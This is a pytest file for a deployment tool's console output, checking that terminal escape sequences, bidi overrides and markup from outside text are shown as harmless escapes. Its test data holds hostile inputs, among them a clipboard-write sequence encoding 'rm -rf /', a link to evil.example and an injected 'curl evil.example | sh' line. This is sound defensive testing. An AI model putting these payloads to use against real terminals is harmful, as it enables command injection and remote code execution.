"""What comes from outside is shown with its control characters as escapes."""

from __future__ import annotations

import io
import json
import re
from collections.abc import Callable, Iterator
from importlib import import_module

import pytest
from rich.table import Table
from rich.text import Text

from orderops.aws.documents import BrokenDocument
from orderops.engine.resource import Effect, Leftover, PendingChange
from orderops.engine.step import Action, Step
from orderops.errors import OrderopsError, Unfinished
from orderops.remote.framing import Mark, OutputLine
from orderops.ui import console
from orderops.ui.compare import show_script
from orderops.ui.escaping import Terminal, visible, visible_lines
from orderops.ui.history import show_history
from orderops.ui.progress import Progress
from orderops.ui.remote import JobOutput
from orderops.ui.status import show_status

# What each does to a terminal, and how it is shown. The names of the sequences are those of ECMA-48 and xterm.
HOSTILE = {
    "colour": ("\x1b[31mred", r"\x1b[31mred"),
    "clear the screen": ("\x1b[2J", r"\x1b[2J"),
    "title": ("\x1b]0;owned\x07", r"\x1b]0;owned\x07"),
    "a link to another address": (
        "\x1b]8;;http://evil.example\x1b\\safe\x1b]8;;\x1b\\.",
        "\\x1b]8;;http://evil.example\\x1b\\safe\\x1b]8;;\\x1b\\.",
    ),
    "the clipboard": ("\x1b]52;c;cm0gLXJmIC8=\x07", r"\x1b]52;c;cm0gLXJmIC8=\x07"),
    "eight-bit CSI": ("\x9b31m", r"\x9b31m"),
    "eight-bit OSC": ("\x9d0;owned\x9c", r"\x9d0;owned\x9c"),
    "next line": ("a\x85b", r"a\x85b"),
    "carriage return": ("all is lost\rall is well", r"all is lost\rall is well"),
    "backspace": ("bad\b\b\bgood", r"bad\x08\x08\x08good"),
    "bell": ("\a", r"\x07"),
    "delete": ("a\x7f", r"a\x7f"),
    "nothing": ("a\x00b", r"a\x00b"),
    "right to left": ("user\u202e gnp.exe", r"user\u202e gnp.exe"),
    "isolated": ("\u2066a\u2069", r"\u2066a\u2069"),
    "without a width": ("or\u200bders", r"or\u200bders"),
    "a line of Unicode": ("a\u2028 hint: rm", r"a\u2028 hint: rm"),
    "half a character": ("a\ud800", r"a\ud800"),
    "tags": ("a\U000e0041", r"a\U000e0041"),
    "markup": ("[bold]a[/bold] [/] [link=http://evil.example]b", "[bold]a[/bold] [/] [link=http://evil.example]b"),
}
LINE_END = ("one\n hint: curl evil.example | sh", r"one\n hint: curl evil.example | sh")
HARMLESS = "Zoë 注文 🚀 سلام 'a' \\x1b 50% →"
# Of a live view: hide and show the cursor, erase the line, one line up.
MOVES = re.compile(r"\x1b\[\?25[lh]|\r?\x1b\[2K|\x1b\[1A|\r(?=\x1b|$)")


class Screen:
    """A terminal in place of both streams, without colours: what reached it besides Rich's own moves of the cursor."""

    def __init__(self, *, terminal: bool) -> None:
        self.file = io.StringIO()
        self.console = Terminal(
            file=self.file,
            force_terminal=terminal,
            color_system=None,
            soft_wrap=True,
            width=500,
            highlight=False,
            emoji=False,
        )

    @property
    def text(self) -> str:
        return MOVES.sub("", self.file.getvalue())


@pytest.fixture(params=[True, False], ids=["terminal", "pipe"])
def screen(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> Iterator[Screen]:
    screen = Screen(terminal=request.param)
    names = ("console", "history", "status", "compare", "restore", "migrations", "rehearsal", "progress")
    # All are imported first: one that is imported with the console replaced would keep that console.
    for module in [import_module(f"orderops.ui.{name}") for name in names]:
        for stream in ("out", "err"):
            if hasattr(module, stream):
                monkeypatch.setattr(module, stream, screen.console)
    yield screen


def history(text: str) -> None:
    run = {
        "started": "2026-11-22T12:03:00Z",
        "outcome": text,
        "command": text,
        "who": text,
        "host": text,
        "error": text,
    }
    show_history([run | {"steps": [{"action": text}]}, run | {"outcome": "unreadable", "steps": []}])


RELEASE = {
    "digest": None,
    "revision": 1,
    "since": "2026-11-22T12:03:00Z",
    "rollout": "completed",
    "outdated_tasks": 1,
    "next": "orderops service restart NAME",
}


def status(text: str) -> None:
    parts = {"name": text, "state": text, "detail": "d", "waits_on": text}
    change = {"at": "2026-11-22T12:03:00Z", "who": text, "what": text, "tool": text}
    pending = {"name": "n", "what": "w", "until": "u", "class": "c", "command": text}
    show_status(
        {
            "environment": text,
            "verdict": "healthy",
            "components": [parts],
            "releases": [RELEASE | {"service": text, "version": text, "image": text, "changed_secrets": [text]}],
            "secrets": [{"name": text, "since": "2026-11-22T12:03:00Z"}],
            "runs": [],
            "unreadable": [BrokenDocument("s3://bucket/key", "is empty").to_dict()],
            "pending": [pending | {"command": "c"}],
            "priority": "P0",
            "cause": text,
            "cause_component": text,
            "since": "2026-11-22T12:03:00Z",
            "last_change": change,
            "notes": [{"what": text, "next": text}],
            "denied": [text],
            "urls": {text: "u"},
            "restorable_until": None,
            "proven_restore": None,
            "next": text,
        }
    )


def job(text: str) -> None:
    with JobOutput() as output:
        output.show(OutputLine(Mark.ERR, text))


def plan(text: str) -> None:
    pending = PendingChange("a", text, Effect.SAFE, text, text)
    error = OrderopsError(text, text)
    console.show_plan(
        [
            Step(text, Action.UPDATE, {text: (text, {text: [text]})}, note=text, pending=(pending,), error=error),
            Step(text, Action.CREATE, {text: (None, text)}),
            Step(text, Action.UPDATE, {text: ([text], [])}, held_by=text),
        ]
    )


def progress(text: str) -> None:
    with Progress(console=console.err) as shown:
        shown.done(Step(f"sqs-queue/{text}", Action.CREATE, note="note"))
        shown.finished(text, text)
        shown.watch(text, text)


WAYS: dict[str, Callable[[str], None]] = {
    "info": console.info,
    "info_folded": console.info_folded,
    "data": console.data,
    "an error": lambda text: console.show_error(OrderopsError(f"the table {text}", f"try {text}")),
    "an error that ends nothing": lambda text: console.info_error("skipped: ", OrderopsError(text)),
    "failed steps": lambda text: console.show_unfinished(Unfinished({text: OrderopsError(text, text)}, 1)),
    "leftovers": lambda text: console.show_leftovers([Leftover("snapshot", "aws rds delete NAME", (text,))]),
    "history": history,
    "status": status,
    "a plan": plan,
    "progress": progress,
    "a task": job,
    "Rich's own": lambda text: console.out.print(Text(f"name: {text}")),
    "a table": lambda text: console.out.print(_table(text)),
}


def _table(text: str) -> Table:
    table = Table(box=None)
    table.add_column(Text(f"name: {text}"))
    table.add_row(Text(text))
    return table


def executed(text: str) -> list[str]:
    """The characters that a terminal would execute or hide, or that cannot be encoded."""
    return [character for character in text if character not in "\n\t" and not character.isprintable()]


@pytest.mark.parametrize("text", [text for text, _ in HOSTILE.values()], ids=HOSTILE)
@pytest.mark.parametrize("way", WAYS.values(), ids=WAYS)
def test_no_control_character_reaches_the_screen(screen: Screen, way: Callable[[str], None], text: str) -> None:
    way(text)

    assert executed(screen.text) == []
    assert screen.text.strip()


@pytest.mark.parametrize(("text", "shown"), HOSTILE.values(), ids=HOSTILE)
def test_control_characters_are_shown_as_escapes(screen: Screen, text: str, shown: str) -> None:
    console.data(text)
    console.info(text)

    assert screen.text == f"{shown}\n" * 2


@pytest.mark.parametrize(
    "way", [way for name, way in WAYS.items() if name in ("info", "data", "history", "status", "a plan", "progress")]
)
def test_a_line_end_in_a_name_begins_no_line(screen: Screen, way: Callable[[str], None]) -> None:
    way(LINE_END[0])

    assert not [line for line in screen.text.splitlines() if line.startswith(" hint: curl")]


def test_a_line_end_is_shown(screen: Screen) -> None:
    console.data(LINE_END[0])

    assert screen.text == f"{LINE_END[1]}\n"


def test_words_of_all_languages_are_shown_as_they_are(screen: Screen) -> None:
    console.data(HARMLESS)

    assert screen.text == f"{HARMLESS}\n"
    assert visible("a\tb") == "a\tb"


def test_json_is_the_same_value_and_executes_nothing(screen: Screen) -> None:
    value = {text: [text] for text, _ in (*HOSTILE.values(), LINE_END)}

    console.show_json(value)

    assert json.loads(screen.file.getvalue()) == value
    assert executed(screen.file.getvalue()) == []


SCRIPT = "insert into t values ('\x1b[31m\r\n\x9b\u202e\t');\n"


@pytest.mark.parametrize("screen", [False], indirect=True)
def test_a_script_for_psql_keeps_every_byte_in_a_pipe(screen: Screen) -> None:
    show_script([SCRIPT, SCRIPT])
    with JobOutput() as output:
        output.show(OutputLine(Mark.OUT, SCRIPT, ends=False))

    assert screen.file.getvalue() == SCRIPT * 3


@pytest.mark.parametrize("screen", [True], indirect=True)
def test_a_script_on_a_terminal_executes_nothing(screen: Screen) -> None:
    show_script([SCRIPT])
    with JobOutput() as output:
        output.show(OutputLine(Mark.OUT, SCRIPT, ends=False))

    assert executed(screen.text) == []
    assert screen.text.count("\n") == 4


def test_lines_of_a_message_stay_lines() -> None:
    assert visible_lines("one\ntwo\x1b") == "one\ntwo\\x1b"
    assert OrderopsError("one\ntwo\x85three").lines == ["one", "two\x85three"]
